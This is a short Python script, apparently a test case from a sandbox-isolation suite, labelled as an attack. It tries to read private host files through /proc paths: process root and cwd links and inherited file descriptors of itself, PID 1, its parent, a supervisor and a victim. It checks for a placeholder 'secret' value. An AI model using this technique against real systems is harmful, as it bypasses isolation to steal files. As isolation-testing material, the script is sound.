"""Attack: read a file of the host by what /proc shows of processes: the victim's, its parents', and what it may have inherited itself."""

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

TARGETS = json.loads(Path(os.environ["INPUT"], "targets.json").read_bytes())
PROCESSES = ("self", 1, os.getppid(), TARGETS["supervisor"], TARGETS["victim"])


def ways() -> Iterator[Path]:
    """Other names of the same files."""
    for process in PROCESSES:
        for path in TARGETS["private_files"]:
            yield Path(f"/proc/{process}/root{path}")
        yield Path(f"/proc/{process}/cwd/{TARGETS['from_victim']}")
        try:
            yield from Path(f"/proc/{process}/fd").iterdir()
        except OSError:
            continue


def reads(path: Path) -> bool:
    """Whether it is one of them."""
    try:
        return stat.S_ISREG(path.stat().st_mode) and path.read_bytes() == b"secret"
    except OSError:
        return False


assert any(reads(path) for path in ways())
Path(os.environ["OUTPUT"]).write_text("got", encoding="utf-8")
